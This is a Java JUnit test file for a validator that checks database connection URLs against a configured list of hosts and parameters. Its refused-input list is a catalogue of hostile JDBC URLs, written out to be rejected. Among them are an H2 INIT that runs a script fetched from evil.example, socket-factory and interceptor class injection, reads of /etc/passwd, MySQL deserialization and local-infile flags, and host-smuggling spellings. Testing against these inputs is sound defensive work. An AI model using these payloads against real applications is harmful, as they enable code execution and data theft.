package dev.sluice.jdbc.url;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.sluice.pool.failure.StoredCredentialsStay;
import java.util.List;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

@DisplayName("A request may name")
@Tag("fast")
class DestinationsTest {

    private static final Destinations ORDERS = Destinations.of(List.of(
            "jdbc:postgresql://db.example/orders?ApplicationName=x&options=-c%20a=b",
            "replica:5433", "BÜCHER.example."));

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://db/orders",
                "jdbc:postgresql://db:5433,other-db:5434/orders?targetServerType=primary&sslmode=require",
                "jdbc:postgresql://[::1]:5432/orders?connectTimeout=3",
                "jdbc:postgresql://10.0.0.7/",
                "jdbc:postgresql://db",
                "jdbc:mariadb://db/orders?sslMode=verify-full",
                "jdbc:mysql://db:3307/orders?useSSL=true",
                "jdbc:h2:mem:",
                "jdbc:h2:mem:x",
                "jdbc:h2:mem:x;DB_CLOSE_DELAY=-1;mode=PostgreSQL"
            })
    @DisplayName("a plain URL of a known kind, with parameters that do no harm")
    void plain(String url) {
        assertThatCode(() -> Destinations.NONE.admit(url, true)).doesNotThrowAnyException();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                // H2 that runs a statement, a script, or opens a file or a socket
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
                "jdbc:h2:mem:x;INIT=RUNSCRIPT%20FROM%20'x.sql'",
                "jdbc:h2:mem:x;init=CREATE_ALIAS",
                "jdbc:h2:mem:x;IN\u0130T=x",
                "jdbc:h2:mem:x;DB_CLOSE_DELAY=-1\\;INIT=x",
                "jdbc:h2:mem:x;MODE=x\\;INIT=x",
                "jdbc:h2:mem:x; INIT=x",
                "jdbc:h2:mem:x;\nINIT=x",
                "jdbc:h2:mem:x;;INIT=x",
                "jdbc:h2:mem:x;DB_CLOSE_DELAY=-1;db_close_delay=0",
                "jdbc:h2:mem:x;TRACE_LEVEL_FILE=4",
                "jdbc:h2:mem:x;CIPHER=AES",
                "jdbc:h2:mem:x;AUTHREALM=x",
                "jdbc:h2:mem:x;DATABASE_EVENT_LISTENER=evil",
                "jdbc:h2:mem:x;AUTO_SERVER=TRUE",
                "jdbc:h2:mem:../../x",
                "jdbc:h2:mem:a/b",
                "jdbc:h2:file:/tmp/x",
                "jdbc:h2:/tmp/x",
                "jdbc:h2:~/x",
                "jdbc:h2:./x",
                "jdbc:h2:tcp://evil.example/x",
                "jdbc:h2:ssl://evil.example/x",
                "jdbc:h2:zip:/tmp/x.zip!/x",
                "jdbc:h2:nio:/tmp/x",
                "jdbc:h2:split:nioMapped:/tmp/x",
                "jdbc:h2:mem",
                "jdbc:h2:MEM:x",
                "JDBC:H2:MEM:x",
                "JDBC:h2:mem:x",
                " jdbc:h2:mem:x",
                "jdbc:h2:mem:x ",
                // PostgreSQL that loads a class, opens a file, or sends the socket elsewhere
                "jdbc:postgresql://db/x?socketFactory=evil",
                "jdbc:postgresql://db/x?socketFactory=evil&socketFactoryArg=evil",
                "jdbc:postgresql://db/x?SOCKETFACTORY=evil",
                "jdbc:postgresql://db/x?socket%46actory=evil",
                "jdbc:postgresql://db/x?ssl=true;socketFactory=evil",
                "jdbc:postgresql://db/x?ssl=true&&socketFactory=evil",
                "jdbc:postgresql://db/x?ssl=true?socketFactory=evil",
                "jdbc:postgresql://db/x?ssl=true&ssl=false",
                "jdbc:postgresql://db/x?connectExecutor=evil",
                "jdbc:postgresql://db/x?sslfactory=evil",
                "jdbc:postgresql://db/x?sslfactoryarg=file:/etc/passwd",
                "jdbc:postgresql://db/x?sslhostnameverifier=evil",
                "jdbc:postgresql://db/x?sslpasswordcallback=evil",
                "jdbc:postgresql://db/x?authenticationPluginClassName=evil",
                "jdbc:postgresql://db/x?loggerFile=/tmp/x",
                "jdbc:postgresql://db/x?loggerLevel=TRACE",
                "jdbc:postgresql://db/x?jaasApplicationName=x",
                "jdbc:postgresql://db/x?gsslib=sspi",
                "jdbc:postgresql://db/x?sslkey=/etc/x",
                "jdbc:postgresql://db/x?sslcert=/etc/x",
                "jdbc:postgresql://db/x?sslrootcert=/etc/x",
                "jdbc:postgresql://db/x?sslpassword=x",
                "jdbc:postgresql://db/x?service=evil",
                "jdbc:postgresql://db/x?passfile=/etc/x",
                "jdbc:postgresql://db/x?xmlFactoryFactory=evil",
                "jdbc:postgresql://db/x?options=-c%20session_preload_libraries=x",
                "jdbc:postgresql://db/x?localSocketAddress=127.0.0.1",
                "jdbc:postgresql://db/x?PGHOST=evil",
                "jdbc:postgresql://db/x?host=evil",
                "jdbc:postgresql://db/x?PGPORT=1",
                "jdbc:postgresql://db/x?hostaddr=127.0.0.1",
                "jdbc:postgresql://db/x?replication=true",
                "jdbc:postgresql://db/x?user=postgres",
                "jdbc:postgresql://db/x?user=postgres&password=x",
                "jdbc:postgresql://db/x?=x",
                "jdbc:postgresql://user:pw@db/x",
                "jdbc:postgresql://db/x%00user%00postgres",
                "jdbc:postgresql://db/x%00options%00-c%20a=b",
                "jdbc:postgresql://db/x?currentSchema=a%00options%00-c",
                "jdbc:postgresql://db/x%0A",
                "jdbc:postgresql://db/x%7f",
                "jdbc:mariadb://db/x%1Fy",
                "jdbc:postgresql://db@evil.example/x",
                "jdbc:postgresql://db%40evil.example/x",
                "jdbc:postgresql:////evil.example/x",
                "jdbc:postgresql://db//evil.example/x",
                "jdbc:postgresql://db\\@evil.example/x",
                "jdbc:postgresql://db:99999/x",
                "jdbc:postgresql://db:0/x",
                "jdbc:postgresql://db:+5432/x",
                "jdbc:postgresql://db:\u0665/x",
                "jdbc:postgresql://db,,x/x",
                "jdbc:postgresql://,db/x",
                "jdbc:postgresql://d\u00e9b/x",
                "jdbc:postgresql://\uff44\uff42/x",
                "jdbc:postgresql:orders",
                "jdbc:postgresql:///orders",
                "jdbc:postgresql:/",
                "JDBC:POSTGRESQL://db/x",
                // MariaDB and MySQL
                "jdbc:mariadb://db/x?allowLocalInfile=true",
                "jdbc:mariadb://db/x?credentialType=x",
                "jdbc:mariadb://db/x?serverRsaPublicKeyFile=/etc/x",
                "jdbc:mariadb://db/x?sessionVariables=a=b",
                "jdbc:mariadb://db/x?initSql=x",
                "jdbc:mariadb://db/x?localSocket=/tmp/x",
                "jdbc:mariadb://db/x?pipe=x",
                "jdbc:mariadb://db/x?socketFactory=evil",
                "jdbc:mariadb://address=(host=evil)(port=1)/x",
                "jdbc:mariadb:sequential://db/x",
                "jdbc:mysql://db/x?allowLoadLocalInfile=true",
                "jdbc:mysql://db/x?allowUrlInLocalInfile=true",
                "jdbc:mysql://db/x?autoDeserialize=true",
                "jdbc:mysql://db/x?queryInterceptors=evil",
                "jdbc:mysql://db/x?statementInterceptors=evil",
                "jdbc:mysql://db/x?propertiesTransform=evil",
                "jdbc:mysql://(host=evil,port=1)/x",
                "jdbc:mysql://address=(host=evil)/x",
                "jdbc:mysql+srv://db/x",
                "jdbc:mysql:loadbalance://db/x",
                // everything else
                "jdbc:sqlserver://db:1433;socketFactoryClass=evil",
                "jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(PROTOCOL=tcp)(HOST=evil)(PORT=1)))",
                "jdbc:oracle:thin:/@tns?TNS_ADMIN=/tmp",
                "jdbc:db2://db:50000/x:clientRerouteServerListJNDIName=ldap://evil;",
                "jdbc:derby:memory:x;create=true",
                "jdbc:tc:postgresql:16:///x?TC_INITFUNCTION=evil",
                "jdbc:otel:postgresql://db/x",
                "ldap://evil/x",
                "jdbc:",
                ""
            })
    @DisplayName("no other host in any spelling, even with credentials of its own")
    void refused(String url) {
        for (boolean own : new boolean[] {true, false}) {
            assertThatThrownBy(() -> ORDERS.admit(url, own))
                    .isInstanceOf(IllegalArgumentException.class)
                    .hasMessageStartingWith("url ")
                    .hasMessageNotContaining("/etc/")
                    .hasMessageNotContaining("pw");
        }
    }

    @Test
    @DisplayName("a URL that is refused for a setting before its characters, and for a character with its position")
    void firstTheSetting() {
        refusedWith(
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM '/a'",
                "url must not have the parameter 'INIT' in a request; it can be set in the" + " configuration only");
        refusedWith(
                "jdbc:postgresql://db/a b?socketFactory=x y",
                "url must not have the parameter 'socketFactory' in a request; it can be set in the"
                        + " configuration only");
        refusedWith("jdbc:h2:mem:x;MODE=a b", "url must not have a space, as at position 21");
        refusedWith(
                "jdbc:postgresql://d\u00fc/x",
                "url must not have the character U+00FC, as at position 20; write an international host name as xn--");
        refusedWith("jdbc:postgresql://db/\u00fc", "url must not have the character U+00FC, as at position 22");
        refusedWith(
                "jdbc:postgresql://db/x%00user%00postgres",
                "url must not have the control character %00, as at position 23");
        refusedWith(
                "jdbc:postgresql://db,other:0/x",
                "url must name hosts separated by commas, without a user; host 2 must be host or host:port with a port"
                        + " from 1 to 65535, such as db.example.com:5432 or [::1]:5432");
        refusedWith(
                "jdbc:postgresql://user:pw@db/x",
                "url must name hosts separated by commas, without a user; host 1 must be host or host:port with a port"
                        + " from 1 to 65535, such as db.example.com:5432 or [::1]:5432");
        refusedWith(
                "jdbc:postgresql://db.example../orders",
                "url must name hosts separated by commas, without a user; host 1 must be host or host:port with a port"
                        + " from 1 to 65535, such as db.example.com:5432 or [::1]:5432");
        refusedWith("jdbc:h2:mem:" + "x".repeat(4096), "url must have at most 4096 characters, and has 4108");
    }

    private static void refusedWith(String url, String message) {
        assertThatThrownBy(() -> Destinations.NONE.admit(url, true)).hasMessage(message);
    }

    @Test
    @DisplayName("a URL whose refusal names the parameter, and where it can be set")
    void named() {
        assertThatThrownBy(() -> Destinations.NONE.admit("jdbc:postgresql://db/x?socketFactory=evil", true))
                .hasMessage("url must not have the parameter 'socketFactory' in a request;"
                        + " it can be set in the configuration only");
        assertThatThrownBy(() -> Destinations.NONE.admit("jdbc:postgresql://db/x?password=evil", true))
                .hasMessage("url must not have the parameter 'password' in a request:"
                        + " give username and password beside it");
        assertThatThrownBy(() -> Destinations.NONE.admit("jdbc:h2:file:/x", true))
                .hasMessageEndingWith("any other form, such as jdbc:h2:file, can be set in the configuration only");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://db.example/orders",
                "jdbc:postgresql://db.example:5432/other",
                "jdbc:postgresql://DB.EXAMPLE./orders",
                "jdbc:postgresql://db.example,replica:5433/orders?targetServerType=primary",
                "jdbc:postgresql://xn--bcher-kva.example/orders",
                "jdbc:postgresql://db.example/orders?options=-c%20a=b",
                "jdbc:h2:mem:x"
            })
    @DisplayName("hosts of the configuration with the stored credentials, and parameters as they are configured")
    void hosts(String url) {
        assertThatCode(() -> ORDERS.admit(url, false)).doesNotThrowAnyException();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://evil.example/orders",
                "jdbc:postgresql://db.example:5433/orders",
                "jdbc:postgresql://replica/orders",
                "jdbc:postgresql://db.example,evil.example/orders",
                "jdbc:postgresql://evil.example,db.example/orders",
                "jdbc:postgresql://db.example.evil.example/orders",
                "jdbc:postgresql://db/orders",
                "jdbc:postgresql://127.0.0.1/orders",
                "jdbc:postgresql://[::1]/orders",
                "jdbc:postgresql://evil.example",
                "jdbc:postgresql://db.example/orders?sslmode=disable"
            })
    @DisplayName("no other host with the stored credentials: it brings its own")
    void otherHosts(String url) {
        assertThatThrownBy(() -> ORDERS.admit(url, false))
                .isInstanceOf(StoredCredentialsStay.class)
                .hasMessageStartingWith("url ")
                .hasMessageContaining("give username and password in the request");
        assertThatCode(() -> ORDERS.admit(url, true)).doesNotThrowAnyException();
        assertThat(ORDERS.covers(url)).isFalse();
    }

    @Test
    @DisplayName("a host with less encryption than configured only with credentials of its own")
    void encryption() {
        Destinations strict = Destinations.of(
                List.of("jdbc:postgresql://db/x?sslmode=verify-full&sslrootcert=/etc/ca.pem", "replica"));
        strict.admit("jdbc:postgresql://replica/x?sslrootcert=/etc/ca.pem&sslmode=verify-full", false);
        for (String url : new String[] {
            "jdbc:postgresql://replica/x",
            "jdbc:postgresql://replica/x?sslmode=verify-full",
            "jdbc:postgresql://db/x?sslmode=disable"
        }) {
            assertThatThrownBy(() -> strict.admit(url, false))
                    .isInstanceOf(StoredCredentialsStay.class)
                    .hasMessageContaining("encryption");
        }
    }

    @Test
    @DisplayName("any URL that the configuration has as a whole, exactly as it is written")
    void whole() {
        String oracle = "jdbc:oracle:thin:@//db:1521/orders";
        Destinations places = Destinations.of(List.of(oracle, "jdbc:postgresql:orders", "jdbc:postgresql:///orders"));
        places.admit(oracle, false);
        places.admit("jdbc:postgresql:orders", false);
        places.admit("jdbc:postgresql://localhost/orders", false);
        assertThatThrownBy(() -> places.admit(oracle + "2", true)).isInstanceOf(IllegalArgumentException.class);
    }

    @Test
    @DisplayName("no value of a configured credential, because a caller could guess the value")
    void guess() {
        Destinations places = Destinations.of(List.of("jdbc:postgresql://db/x?user=app&password=hunter2"));
        assertThatThrownBy(() -> places.admit("jdbc:postgresql://db/y?password=hunter2", false))
                .isInstanceOf(IllegalArgumentException.class);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                " ",
                "db:",
                "db:x",
                "db:0",
                "db:65536",
                "a b",
                "user@db",
                "db/x",
                "::1",
                "[::1",
                "[db]",
                "db:1:2",
                "[fe80::1%eth0]",
                "."
            })
    @DisplayName("a place that is no host stands in no configuration")
    void noPlace(String place) {
        assertThatThrownBy(() -> Destinations.of(List.of(place)))
                .isInstanceOf(IllegalArgumentException.class)
                .hasMessage(
                        "endpoints must be host or host:port with a port from 1 to 65535, such as db.example.com:5432 or"
                                + " [::1]:5432, or a JDBC URL: '" + place + "'");
    }
}
